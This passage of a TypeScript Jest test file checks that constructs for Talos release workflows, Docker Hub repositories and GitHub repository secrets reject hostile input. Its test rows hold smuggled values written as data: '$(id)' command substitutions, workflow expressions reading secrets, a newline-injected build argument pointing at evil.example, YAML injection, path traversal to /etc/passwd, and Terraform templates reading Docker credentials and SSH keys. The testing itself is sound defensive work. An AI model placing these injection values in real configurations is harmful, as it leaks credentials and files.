    expected: RELEASE + '  - overlayBuild.buildArgs.PKGS PREFIX = "PKGS PREFIX": a build argument name must match ^[A-Z_][A-Z0-9_]*$. Fix: use an upper-case name such as "PKGS_PREFIX"',
  },
  {
    title: 'build argument value with a workflow expression',
    declare: (p) => withWorkflow(p, { overlayBuild: OverlayBuild.pkgfile({ target: 'overlay', buildArgs: { PKGS: '${{ github.event.issue.title }}' } }) }),
    expected: RELEASE + '  - overlayBuild.buildArgs.PKGS = "${{ github.event.issue.title }}": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "ghcr.io/siderolabs"',
  },
  {
    title: 'build argument value with a newline smuggling another argument',
    declare: (p) => withWorkflow(p, { overlayBuild: OverlayBuild.pkgfile({ target: 'overlay', buildArgs: { PKGS: 'v1.10.0\nPKGS_PREFIX=evil.example' } }) }),
    expected: RELEASE + '  - overlayBuild.buildArgs.PKGS = "v1.10.0\\nPKGS_PREFIX=evil.example": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "ghcr.io/siderolabs"',
  },
  {
    title: 'workflow file name with path traversal',
    declare: (p) => withWorkflow(p, { fileName: '../../evil.yaml' }),
    expected: RELEASE + '  - fileName = "../../evil.yaml": a workflow file name must match ^[a-z0-9][a-z0-9._-]*\\.ya?ml$. Fix: use a name such as "release.yaml"',
  },
  {
    title: 'workflow file name with a newline',
    declare: (p) => withWorkflow(p, { fileName: 'release.yaml\n' }),
    expected: RELEASE + '  - fileName = "release.yaml\\n": a workflow file name must match ^[a-z0-9][a-z0-9._-]*\\.ya?ml$. Fix: use a name such as "release.yaml"',
  },
  {
    title: 'workflow file name without the YAML extension',
    declare: (p) => withWorkflow(p, { fileName: 'release' }),
    expected: RELEASE + '  - fileName = "release": a workflow file name must match ^[a-z0-9][a-z0-9._-]*\\.ya?ml$. Fix: use a name such as "release.yaml"',
  },
  {
    title: 'workflow name with a workflow expression',
    declare: (p) => withWorkflow(p, { workflowName: '${{ secrets.DOCKERHUB_TOKEN }}' }),
    expected: RELEASE + '  - workflowName = "${{ secrets.DOCKERHUB_TOKEN }}": must be 1 to 80 letters, digits, spaces or "._()-". Fix: use a plain name such as "Release"',
  },
  {
    title: 'workflow name with a newline (YAML injection)',
    declare: (p) => withWorkflow(p, { workflowName: 'Release\non: pull_request_target' }),
    expected: RELEASE + '  - workflowName = "Release\\non: pull_request_target": must be 1 to 80 letters, digits, spaces or "._()-". Fix: use a plain name such as "Release"',
  },
  {
    title: 'empty workflow name',
    declare: (p) => withWorkflow(p, { workflowName: '' }),
    expected: RELEASE + '  - workflowName = "": must be 1 to 80 letters, digits, spaces or "._()-". Fix: use a plain name such as "Release"',
  },
  {
    title: 'no overlay platform',
    declare: (p) => withWorkflow(p, { overlayPlatforms: [] }),
    expected: RELEASE + '  - overlayPlatforms = []: must name at least one platform. Fix: use [Architecture.AMD64, Architecture.ARM64]',
  },
  {
    title: 'a repeated overlay platform',
    declare: (p) => withWorkflow(p, { overlayPlatforms: [Architecture.AMD64, Architecture.ARM64, Architecture.ARM64] }),
    expected: RELEASE + '  - overlayPlatforms = ["amd64","arm64","arm64"]: must not repeat a platform. Fix: remove the duplicate',
  },
  {
    title: 'conflicting settings: an arm64 imager runner with an amd64-only overlay',
    declare: (p) => withWorkflow(p, { imagerRunner: Runner.githubHosted('ubuntu-24.04-arm'), overlayPlatforms: [Architecture.AMD64] }),
    expected: RELEASE + '  - overlayPlatforms = ["amd64"]: the imager runs on arm64 and extracts the overlay for its own architecture, so the overlay must be built for linux/arm64. Fix: add Architecture.ARM64 to overlayPlatforms, or run the imager on a runner of a built architecture',
  },
  {
    title: 'timeout of 0 minutes',
    declare: (p) => withWorkflow(p, { overlayTimeoutMinutes: 0 }),
    expected: RELEASE + '  - overlayTimeoutMinutes = 0: must be a whole number of minutes from 1 to 360. Fix: use e.g. 60',
  },
  {
    title: 'timeout above GitHub\'s 360-minute job limit',
    declare: (p) => withWorkflow(p, { imageTimeoutMinutes: 361 }),
    expected: RELEASE + '  - imageTimeoutMinutes = 361: must be a whole number of minutes from 1 to 360. Fix: use e.g. 60',
  },
  {
    title: 'fractional, negative and NaN timeouts',
    declare: (p) => withWorkflow(p, { overlayTimeoutMinutes: Number.NaN, imageTimeoutMinutes: 1.5, releaseTimeoutMinutes: -1 }),
    expected: RELEASE + '  - overlayTimeoutMinutes = NaN: must be a whole number of minutes from 1 to 360. Fix: use e.g. 60\n'
      + '  - imageTimeoutMinutes = 1.5: must be a whole number of minutes from 1 to 360. Fix: use e.g. 60\n'
      + '  - releaseTimeoutMinutes = -1: must be a whole number of minutes from 1 to 360. Fix: use e.g. 60',
  },
  {
    title: 'runner label with a command substitution',
    declare: (p) => withWorkflow(p, { runner: Runner.githubHosted('ubuntu-24.04 $(id)') }),
    expected: RELEASE + '  - runner.labels[0] = "ubuntu-24.04 $(id)": a runner label must match ^[A-Za-z0-9][A-Za-z0-9._-]*$. Fix: use a label such as "ubuntu-24.04" or "self-hosted"',
  },
  {
    title: 'runner label with a workflow expression',
    declare: (p) => withWorkflow(p, { runner: Runner.selfHosted(['${{ github.event.inputs.runner }}'], Architecture.AMD64) }),
    expected: RELEASE + '  - runner.labels[0] = "${{ github.event.inputs.runner }}": a runner label must match ^[A-Za-z0-9][A-Za-z0-9._-]*$. Fix: use a label such as "ubuntu-24.04" or "self-hosted"',
  },
  {
    title: 'self-hosted runner without labels',
    declare: (p) => withWorkflow(p, { runner: Runner.selfHosted([], Architecture.AMD64) }),
    expected: RELEASE + '  - runner.labels = []: must name at least one runner label. Fix: use Runner.githubHosted() or Runner.selfHosted([...], arch)',
  },
  {
    title: 'duplicate boards (same boardName)',
    declare: (p) => {
      const a = new OverlayBoard(p, 'A', NANOPI_M6);
      const b = new OverlayBoard(p, 'B', { ...NANOPI_M6, displayName: 'NanoPi M6 (copy)' });
      new ReleaseWorkflow(p, 'Release', { ...WORKFLOW, boards: [a, b] });
    },
    expected: RELEASE + '  - boards[1].boardName = "nanopi-m6": must be unique within the workflow (it names the imager job and the release asset). Fix: give each board its own boardName',
  },
  {
    title: 'the same board added twice',
    declare: (p) => {
      const a = new OverlayBoard(p, 'A', NANOPI_M6);
      const releaseWorkflow = new ReleaseWorkflow(p, 'Release', { ...WORKFLOW, boards: [a] });
      releaseWorkflow.addBoard(a);
    },
    expected: RELEASE + '  - boards[1].boardName = "nanopi-m6": must be unique within the workflow (it names the imager job and the release asset). Fix: give each board its own boardName',
  },
  {
    title: 'conflicting settings: boards of different Talos releases in one workflow',
    declare: (p) => {
      const a = new OverlayBoard(p, 'A', NANOPI_M6);
      const b = new OverlayBoard(p, 'B', { ...NANOPI_M6, boardName: 'rock-5b', talosVersion: 'v1.12.5' });
      new ReleaseWorkflow(p, 'Release', { ...WORKFLOW, boards: [a, b] });
    },
    expected: RELEASE + '  - boards[1].talosVersion = "v1.12.5": every board of one release workflow must use the same Talos release as boards[0] (v1.10.6); TALOS_VERSION is set once per workflow. Fix: use the same talosVersion, or give the other release line its own ReleaseWorkflow (fileName)',
  },
  {
    title: 'no boards: fails at synthesis, before any file is written',
    declare: (p) => {
      new ReleaseWorkflow(p, 'Release', WORKFLOW);
    },
    expected: RELEASE + '  - boards = []: a release workflow needs at least one board. Fix: pass boards: [new OverlayBoard(...)] or call addBoard()',
  },
  {
    title: 'two workflows writing the same file',
    declare: (p) => {
      releaseOf(p);
      new ReleaseWorkflow(p, 'Release2', { ...WORKFLOW, boards: [new OverlayBoard(p, 'Rock5b', { ...NANOPI_M6, boardName: 'rock-5b' })] });
    },
    expected: '[talos-sbc-constructs] ReleaseWorkflow at "Release2" is invalid:\n  - fileName = "release.yaml": the ReleaseWorkflow at "Release" already writes .github/workflows/release.yaml. Fix: give each ReleaseWorkflow its own file name, e.g. "release-rock-5b.yaml"',
  },
  {
    title: 'conflicting settings: two workflows released by the same tags',
    declare: (p) => {
      releaseOf(p);
      new ReleaseWorkflow(p, 'Release2', {
        ...WORKFLOW,
        fileName: 'release-v1.13.yaml',
        boards: [new OverlayBoard(p, 'Board113', { ...NANOPI_M6, talosVersion: 'v1.13.2' })],
      });
    },
    expected: '[talos-sbc-constructs] ReleaseWorkflow at "Release2" is invalid:\n'
      + '  - boards[0].tagPattern = "v*-nanopi-m6": tag pattern "v*-nanopi-m6" of workflow "Release (.github/workflows/release-v1.13.yaml)" and tag pattern "v*-nanopi-m6" '
      + 'of workflow "Release (.github/workflows/release.yaml)" both match tag "v-nanopi-m6"; a tag would run both workflows (the ReleaseWorkflow at "Release"). '
      + 'Fix: make the patterns disjoint so that no tag matches both, e.g. "v1.13.*-nanopi-m6" in workflow "Release (.github/workflows/release-v1.13.yaml)" '
      + 'and "v1.10.*-nanopi-m6" in workflow "Release (.github/workflows/release.yaml)"',
  },
];

// ---------------------------------------------------------------------------------------------
// DockerHubRepo
// ---------------------------------------------------------------------------------------------

const DOCKER_HUB_REPO_ROWS: Row<TerraformStack>[] = [
  {
    title: 'description longer than Docker Hub\'s 100 characters',
    declare: (s) => dockerHubRepo(s, { description: 'Talos Linux overlay for the FriendlyElec NanoPi M6 (RK3588S): U-Boot, DTB and installer, built from the bldr Pkgfile' }),
    expected: HUB + '  - description = "Talos Linux overlay for the FriendlyElec NanoPi M6 (RK3588S): U-Boot, DTB and installer, built from the bldr Pkgfile": Docker Hub allows at most 100 characters (got 116). Fix: shorten it and put the details in fullDescription',
  },
  {
    title: 'full description read from a file that is not a README (path traversal to /etc/passwd)',
    declare: (s) => dockerHubRepo(s, { fullDescriptionFile: '../'.repeat(12) + 'etc/passwd' }),
    expected: HUB + '  - fullDescriptionFile = "../../../../../../../../../../../../etc/passwd": must name a Markdown file (.md or .markdown): its content is published on Docker Hub. '
      + 'Fix: use a path such as "README.md"',
  },
  {
    title: 'repository namespace in upper case',
    declare: (s) => dockerHubRepo(s, { imageRepository: ImageRepository.dockerHub('MyUser', 'talos-sbc-nanopi-m6') }),
    expected: HUB + '  - imageRepository.namespace = "MyUser": a Docker Hub namespace must be 4 to 30 lowercase letters or digits. Fix: use the Docker Hub account or organisation name in lowercase, e.g. "myuser"',
  },
  {
    title: 'Docker Hub namespace longer than 30 characters',
    declare: (s) => dockerHubRepo(s, { imageRepository: ImageRepository.dockerHub('a'.repeat(31), 'talos-sbc-nanopi-m6') }),
    expected: HUB + '  - imageRepository.namespace = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa": a Docker Hub namespace must be 4 to 30 lowercase letters or digits. Fix: use the Docker Hub account or organisation name in lowercase, e.g. "myuser"',
  },
  {
    title: 'repository name in upper case',
    declare: (s) => dockerHubRepo(s, { imageRepository: ImageRepository.dockerHub('user1234', 'Talos-SBC') }),
    expected: HUB + '  - imageRepository.name = "Talos-SBC": a Docker Hub repository name must be 2 to 255 characters matching ^[a-z0-9]+(?:[._-][a-z0-9]+)*$. Fix: use lowercase letters and digits separated by single ".", "_" or "-", e.g. "talos-sbc-nanopi-m6"',
  },
  {
    title: 'repository name starting with a separator',
    declare: (s) => dockerHubRepo(s, { imageRepository: ImageRepository.dockerHub('user1234', '-talos') }),
    expected: HUB + '  - imageRepository.name = "-talos": a Docker Hub repository name must be 2 to 255 characters matching ^[a-z0-9]+(?:[._-][a-z0-9]+)*$. Fix: use lowercase letters and digits separated by single ".", "_" or "-", e.g. "talos-sbc-nanopi-m6"',
  },
  {
    title: 'repository name longer than 255 characters',
    declare: (s) => dockerHubRepo(s, { imageRepository: ImageRepository.dockerHub('user1234', 't'.repeat(256)) }),
    expected: HUB + '  - imageRepository.name = "' + 't'.repeat(160) + '"… (256 code points): a Docker Hub repository name must be 2 to 255 characters matching ^[a-z0-9]+(?:[._-][a-z0-9]+)*$. Fix: use lowercase letters and digits separated by single ".", "_" or "-", e.g. "talos-sbc-nanopi-m6"',
  },
  {
    title: 'repository name with a command substitution',
    declare: (s) => dockerHubRepo(s, { imageRepository: ImageRepository.dockerHub('user1234', 'talos$(id)') }),
    expected: HUB + '  - imageRepository.name = "talos$(id)": a Docker Hub repository name must be 2 to 255 characters matching ^[a-z0-9]+(?:[._-][a-z0-9]+)*$. Fix: use lowercase letters and digits separated by single ".", "_" or "-", e.g. "talos-sbc-nanopi-m6"',
  },
  {
    title: 'a repository on another registry',
    declare: (s) => dockerHubRepo(s, { imageRepository: ImageRepository.of({ registry: 'ghcr.io', namespace: 'acme', name: 'overlay' }) }),
    expected: HUB + '  - imageRepository.registry = "ghcr.io": DockerHubRepo manages Docker Hub repositories only. Fix: use ImageRepository.dockerHub("acme", "overlay"), or manage the repository on ghcr.io by other means',
  },
  {
    title: 'full description longer than 25 000 characters',
    declare: (s) => dockerHubRepo(s, { fullDescription: '# Overlay\n' + 'x'.repeat(25_000) }),
    expected: HUB + '  - fullDescription = "# Overlay\\nxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…": Docker Hub allows at most 25000 characters (got 25010). Fix: shorten the README and link to the full documentation',
  },
  {
    title: 'conflicting settings: immutable tag rules without immutable tags',
    declare: (s) => dockerHubRepo(s, { immutableTagRules: ['^v.*'] }),
    expected: HUB + '  - immutableTagRules = ["^v.*"]: rules take effect only when immutableTags is true. Fix: set immutableTags: true, or remove immutableTagRules',
  },
  {
    title: 'immutable tag rule that is not a regular expression',
    declare: (s) => dockerHubRepo(s, { immutableTags: true, immutableTagRules: ['(v1', ''] }),
    expected: HUB + '  - immutableTagRules[0] = "(v1": must be a non-empty regular expression. Fix: use a pattern such as "^v[0-9]+[.][0-9]+[.][0-9]+$"\n'
      + '  - immutableTagRules[1] = "": must be a non-empty regular expression. Fix: use a pattern such as "^v[0-9]+[.][0-9]+[.][0-9]+$"',
  },
  {
    title: 'preventDestroy: false without a reason',
    declare: (s) => dockerHubRepo(s, { preventDestroy: false }),
    expected: HUB + '  - destroyReason = (not set): preventDestroy: false needs a reason: destroying the repository deletes every image in it. Fix: set destroyReason (e.g. "scratch repository for CI tests"), or keep preventDestroy: true',
  },
  {
    title: 'preventDestroy: false with a blank reason',
    declare: (s) => dockerHubRepo(s, { preventDestroy: false, destroyReason: '   ' }),
    expected: HUB + '  - destroyReason = "   ": preventDestroy: false needs a reason: destroying the repository deletes every image in it. Fix: set destroyReason (e.g. "scratch repository for CI tests"), or keep preventDestroy: true',
  },
  {
    title: 'conflicting settings: adopting an existing repository without saying whether it is private',
    declare: (s) => dockerHubRepo(s, { importExisting: true }),
    expected: HUB + '  - private = (not set): adopting an existing repository (importExisting: true) needs private set explicitly: the provider makes the repository public when it is omitted. Fix: set private: true to keep a private repository private, or private: false if it is public',
  },
  {
    title: 'conflicting settings: fullDescription and fullDescriptionFile',
    declare: (s) => dockerHubRepo(s, { fullDescription: '# Overlay', fullDescriptionFile: 'README.md' }),
    expected: HUB + '  - fullDescriptionFile = "README.md": fullDescription and fullDescriptionFile are mutually exclusive. Fix: keep one: the README file (fullDescriptionFile) or the inline Markdown (fullDescription)',
  },
  {
    title: 'a provider from another stack',
    declare: (s) => {
      const other = new TerraformStack(s.node.root as App, 'other');
      dockerHubRepo(s, { provider: new DockerHubProvider(other, 'DockerHub') });
    },
    expected: HUB + '  - provider = "other/DockerHub": the provider must be declared in the same stack as the repository. Fix: omit provider to use the stack\'s DockerHubProvider, or create one in this stack',
  },
];

// ---------------------------------------------------------------------------------------------
// RepoSecrets
// ---------------------------------------------------------------------------------------------

const REPO_SECRETS_ROWS: Row<TerraformStack>[] = [
  {
    title: 'repository with the owner',
    declare: (s) => repoSecrets(s, { githubRepository: 'talos-sbc/talos-sbc-nanopi-m6' }),
    expected: SECRETS + '  - githubRepository = "talos-sbc/talos-sbc-nanopi-m6": a GitHub repository name must match ^[A-Za-z0-9._-]{1,100}$ and not be "." or "..". Fix: use the name without the owner, e.g. "talos-sbc-nanopi-m6" (the owner comes from githubOwner or GITHUB_OWNER)',
  },
  {
    title: 'repository ".."',
    declare: (s) => repoSecrets(s, { githubRepository: '..' }),
    expected: SECRETS + '  - githubRepository = "..": a GitHub repository name must match ^[A-Za-z0-9._-]{1,100}$ and not be "." or "..". Fix: use the repository name as on GitHub, e.g. "talos-sbc-nanopi-m6"',
  },
  {
    title: 'repository with a command substitution',
    declare: (s) => repoSecrets(s, { githubRepository: 'overlay$(id)' }),
    expected: SECRETS + '  - githubRepository = "overlay$(id)": a GitHub repository name must match ^[A-Za-z0-9._-]{1,100}$ and not be "." or "..". Fix: use the repository name as on GitHub, e.g. "talos-sbc-nanopi-m6"',
  },
  {
    title: 'repository name longer than 100 characters',
    declare: (s) => repoSecrets(s, { githubRepository: 'r'.repeat(101) }),
    expected: SECRETS + '  - githubRepository = "rrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrr": a GitHub repository name must match ^[A-Za-z0-9._-]{1,100}$ and not be "." or "..". Fix: use the repository name as on GitHub, e.g. "talos-sbc-nanopi-m6"',
  },
  {
    title: 'variable name with a dash',
    declare: (s) => repoSecrets(s, { variables: { 'TALOS-VERSION': 'v1.10.6' } }),
    expected: SECRETS + '  - variables.TALOS-VERSION = "TALOS-VERSION": a GitHub Actions variable name must match ^[A-Za-z_][A-Za-z0-9_]*$ (letters, digits and underscores, not starting with a digit). Fix: rename it, e.g. "TALOS_VERSION"',
  },
  {
    title: 'variable name starting with a digit',
    declare: (s) => repoSecrets(s, { variables: { '1VERSION': 'v1.10.6' } }),
    expected: SECRETS + '  - variables.1VERSION = "1VERSION": a GitHub Actions variable name must match ^[A-Za-z_][A-Za-z0-9_]*$ (letters, digits and underscores, not starting with a digit). Fix: rename it, e.g. "_1VERSION"',
  },
  {
    title: 'variable name with the reserved GITHUB_ prefix',
    declare: (s) => repoSecrets(s, { variables: { GITHUB_SHA: 'x' } }),
    expected: SECRETS + '  - variables.GITHUB_SHA = "GITHUB_SHA": GitHub reserves variable names starting with "GITHUB_". Fix: choose a name without the GITHUB_ prefix, e.g. "REGISTRY_SHA"',
  },
  {
    title: 'variable name with the reserved prefix in lower case',
    declare: (s) => repoSecrets(s, { variables: { github_ref: 'x' } }),
    expected: SECRETS + '  - variables.github_ref = "github_ref": GitHub reserves variable names starting with "GITHUB_". Fix: choose a name without the GITHUB_ prefix, e.g. "REGISTRY_ref"',
  },
  {
    title: 'empty variable name',
    declare: (s) => repoSecrets(s, { variables: { '': 'x' } }),
    expected: SECRETS + '  - variables[""] = "": a GitHub Actions variable name must not be empty. Fix: name the variable, e.g. "TALOS_VERSION"',
  },
  {
    title: 'secret name GITHUB_TOKEN',
    declare: (s) => repoSecrets(s, { secrets: { GITHUB_TOKEN: SecretValue.unmanaged() } }),
    expected: SECRETS + '  - secrets.GITHUB_TOKEN = "GITHUB_TOKEN": GitHub reserves secret names starting with "GITHUB_". Fix: choose a name without the GITHUB_ prefix, e.g. "REGISTRY_TOKEN"',
  },
  {
    title: 'secret name with a workflow expression',
    declare: (s) => repoSecrets(s, { secrets: { '${{ secrets.X }}': SecretValue.unmanaged() } }),
    expected: SECRETS + '  - secrets.${{ secrets.X }} = "${{ secrets.X }}": a GitHub Actions secret name must match ^[A-Za-z_][A-Za-z0-9_]*$ (letters, digits and underscores, not starting with a digit). Fix: rename it, e.g. "____SECRETS_X___"',
  },
  {
    title: 'secret name with a newline',
    declare: (s) => repoSecrets(s, { secrets: { 'TOKEN\nOTHER': SecretValue.unmanaged() } }),
    expected: SECRETS + '  - secrets.TOKEN\\nOTHER = "TOKEN\\nOTHER": a GitHub Actions secret name must match ^[A-Za-z_][A-Za-z0-9_]*$ (letters, digits and underscores, not starting with a digit). Fix: rename it, e.g. "TOKEN_OTHER"',
  },
  {
    title: 'credentials secret with the reserved prefix',
    declare: (s) => repoSecrets(s, { credentials: RegistryCredentials.dockerHub({ tokenSecret: 'GITHUB_DOCKERHUB_TOKEN' }) }),
    expected: SECRETS + '  - credentials.tokenSecret = "GITHUB_DOCKERHUB_TOKEN": GitHub reserves secret names starting with "GITHUB_". Fix: choose a name without the GITHUB_ prefix, e.g. "REGISTRY_DOCKERHUB_TOKEN"',
  },
  {
    title: 'a variable named like the credentials secret (GitHub compares names case-insensitively)',
    declare: (s) => repoSecrets(s, { variables: { dockerhub_token: 'x' } }),
    expected: SECRETS + '  - variables.dockerhub_token = "dockerhub_token": duplicates credentials.tokenSecret: variable and secret names must be unique in a repository (GitHub compares them case-insensitively). Fix: give each variable and secret its own name',
  },
  {
    title: 'empty user name value',
    declare: (s) => repoSecrets(s, { usernameValue: '' }),
    expected: SECRETS + '  - usernameValue = "": GitHub rejects an empty Actions variable value. Fix: set a non-empty value',
  },
  {
    title: 'empty variable value',
    declare: (s) => repoSecrets(s, { variables: { TALOS_VERSION: '' } }),
    expected: SECRETS + '  - variables.TALOS_VERSION = "": GitHub rejects an empty Actions variable value. Fix: set a non-empty value',
  },
  {
    title: 'variable value larger than GitHub\'s 48 KB limit',
    declare: (s) => repoSecrets(s, { variables: { BIG: 'x'.repeat(48 * 1024 + 1) } }),
    expected: SECRETS + '  - variables.BIG = "' + 'x'.repeat(160) + '"… (49153 code points): GitHub limits an Actions variable to 48 KB (got 49153 bytes). '
      + 'Fix: store large values in a file in the repository instead',
  },
  {
    title: 'Terraform variable name Terraform reserves',
    declare: (s) => repoSecrets(s, { tokenValue: SecretValue.fromTerraformVariable('count') }),
    expected: SECRETS + '  - tokenValue.variableName = "count": Terraform reserves the variable names source, version, providers, count, for_each, lifecycle, depends_on, locals. Fix: pass another name, e.g. "count_secret", to SecretValue.fromTerraformVariable()',
  },
  {
    title: 'Terraform variable name that TF_VAR_ cannot carry',
    declare: (s) => repoSecrets(s, { tokenValue: SecretValue.fromTerraformVariable('docker-hub-token') }),
    expected: SECRETS + '  - tokenValue.variableName = "docker-hub-token": a Terraform variable name set through TF_VAR_<name> must match ^[A-Za-z_][A-Za-z0-9_]*$. Fix: pass a name such as "docker_hub_token" to SecretValue.fromTerraformVariable()',
  },
  {
    title: 'a provider that is not the GitHub provider',
    declare: (s) => repoSecrets(s, { provider: new DockerHubProvider(s, 'DockerHub') }),
    expected: SECRETS + '  - provider = "settings/DockerHub": must be an integrations/github provider (got docker/docker). Fix: pass a GithubProvider from @cdktf/provider-github, or omit provider',
  },
];

// ---------------------------------------------------------------------------------------------
// Runners: each row is a whole program
// ---------------------------------------------------------------------------------------------

interface Outcome {
  /** The message of the error the program threw (undefined: no error). */
  readonly message?: string;
  /** Entries of the output folder after the program. */
  readonly written: string[];
  /** Whether `app.synth()` ran (cdktf only). */
  readonly synthesized?: boolean;
}

/** A `.projenrc.ts` program: declare, then synthesise, in a fresh temporary folder. */
function runProjen(declare: (project: Project) => void): Outcome {
  const project = tempProject();
  let message: string | undefined;
  try {
    declare(project);
    project.synth();
  } catch (e) {
    message = (e as Error).message;
  }
  return { message, written: existsSync(project.outdir) ? readdirSync(project.outdir) : [] };
}

/** Every file below `dir` (cdktf creates an empty `stacks` folder when a stack is constructed). */
function filesUnder(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true })
    .flatMap((entry) => (entry.isDirectory() ? filesUnder(join(dir, entry.name)).map((f) => join(entry.name, f)) : [entry.name]));
}

/** A settings app: declare under a stack of `Testing.app()`, then `app.synth()`. */
function runTerraform(declare: (stack: TerraformStack) => void): Outcome {
  const app = Testing.app();
  const synth = jest.spyOn(app, 'synth');
  let message: string | undefined;
  try {
    declare(new TerraformStack(app, 'settings'));
    app.synth();
  } catch (e) {
    message = (e as Error).message;
  }
  return { message, written: filesUnder(app.outdir), synthesized: synth.mock.calls.length > 0 };
}

function describeRows<S>(name: string, rows: Row<S>[], run: (declare: (scope: S) => void) => Outcome, proof: (outcome: Outcome) => void): void {
  describe(name, () => {
    const rejected = rows.filter((r) => r.gap === undefined);
    const gaps = rows.filter((r) => r.gap !== undefined);
    test.each(rejected)('$title', (row) => {
      const outcome = run(row.declare);
      expect(outcome.message).toBe(row.expected);
      proof(outcome);
    });
    if (gaps.length > 0) {
      // Validation gaps: these fail today (the value is accepted); see each row's `gap`.
      test.failing.each(gaps)('GAP: $title', (row) => {
        const outcome = run(row.declare);
        expect(outcome.message).toBe(row.expected);
        proof(outcome);
      });
    }
  });
}

const nothingWritten = (outcome: Outcome) => {
  expect(outcome.written).toEqual([]); // not even .github or projen's own files
};
const neverSynthesized = (outcome: Outcome) => {
  expect(outcome.synthesized).toBe(false); // the construct threw at creation
  expect(outcome.written).toEqual([]); // no cdk.tf.json, no manifest.json
};

describeRows('OverlayBoard', OVERLAY_BOARD_ROWS, runProjen, nothingWritten);
describeRows('ReleaseWorkflow', RELEASE_WORKFLOW_ROWS, runProjen, nothingWritten);
describeRows('DockerHubRepo (cdktf)', DOCKER_HUB_REPO_ROWS, runTerraform, neverSynthesized);
describeRows('RepoSecrets (cdktf)', REPO_SECRETS_ROWS, runTerraform, neverSynthesized);

// ---------------------------------------------------------------------------------------------
// Terraform templates: in cdk.tf.json every string is a template, so "${…}" and "%{…}" in a
// literal value are evaluated by `terraform apply` (checked with terraform 1.x:
// "${file(\"/etc/hostname\")}" in a resource argument is replaced by the file's content).
// Such text is legitimate in a README, so the fix is to escape it ("$${", "%%{"), not to reject
// it. These are gaps today: the values are written raw.
// ---------------------------------------------------------------------------------------------

interface TemplateRow {
  readonly title: string;
  readonly declare: (stack: TerraformStack) => void;
  /** Reads the written attribute from the synthesised JSON. */
  readonly written: (json: any) => unknown;
  /** The escaped value Terraform turns back into the literal text. */
  readonly expected: string;
}

const first = (resources: { [id: string]: any } | undefined): any => Object.values(resources ?? {})[0];

const TEMPLATE_ROWS: TemplateRow[] = [
  {
    title: 'DockerHubRepo description with ${file(…)} (would publish a local file on Docker Hub)',
    declare: (s) => dockerHubRepo(s, { description: 'Overlay ${file("~/.docker/config.json")}' }),
    written: (json) => first(json.resource.docker_hub_repository).description,
    expected: 'Overlay $${file("~/.docker/config.json")}',
  },
  {
    title: 'DockerHubRepo fullDescription with a %{ } directive (Fn.rawString escapes only "${")',
    declare: (s) => dockerHubRepo(s, { fullDescription: '# Overlay\n%{ if fileexists("/root/.ssh/id_ed25519") }key present%{ endif }\n' }),
    written: (json) => first(json.resource.docker_hub_repository).full_description,
    expected: '# Overlay\n%%{ if fileexists("/root/.ssh/id_ed25519") }key present%%{ endif }\n',
  },
  {
    title: 'RepoSecrets usernameValue with ${file(…)} (would store a local file in an Actions variable)',
    declare: (s) => repoSecrets(s, { usernameValue: '${file("~/.docker/config.json")}' }),
    written: (json) => first(json.resource.github_actions_variable).value,
    expected: '$${file("~/.docker/config.json")}',
  },
  {
    title: 'RepoSecrets variable value with a %{ } directive',
    declare: (s) => repoSecrets(s, { variables: { NOTE: '%{ for k, v in {} }x%{ endfor }' } }),
    written: (json) => (Object.values(json.resource.github_actions_variable) as any[]).find((v) => v.variable_name === 'NOTE').value,
    expected: '%%{ for k, v in {} }x%%{ endfor }',
  },
];

describe('Terraform template injection: literal values are written escaped', () => {
  test.each(TEMPLATE_ROWS)('$title', (row) => {
    const stack = new TerraformStack(Testing.app(), 'settings');
    row.declare(stack);
    expect(row.written(JSON.parse(Testing.synth(stack)))).toBe(row.expected);
  });
});

test('the corpus has at least 40 rows, and every row is unique', () => {
  const all = [...OVERLAY_BOARD_ROWS, ...RELEASE_WORKFLOW_ROWS, ...DOCKER_HUB_REPO_ROWS, ...REPO_SECRETS_ROWS];
  expect(all.length).toBeGreaterThanOrEqual(40);
  expect(new Set(all.map((r) => r.title)).size).toBe(all.length);
  // the baselines themselves are valid: nothing hostile hides in them
  expect(runProjen((p) => releaseOf(p)).message).toBeUndefined();
  expect(runTerraform((s) => {
    dockerHubRepo(s, {});
    repoSecrets(s, {});
  }).message).toBeUndefined();
});
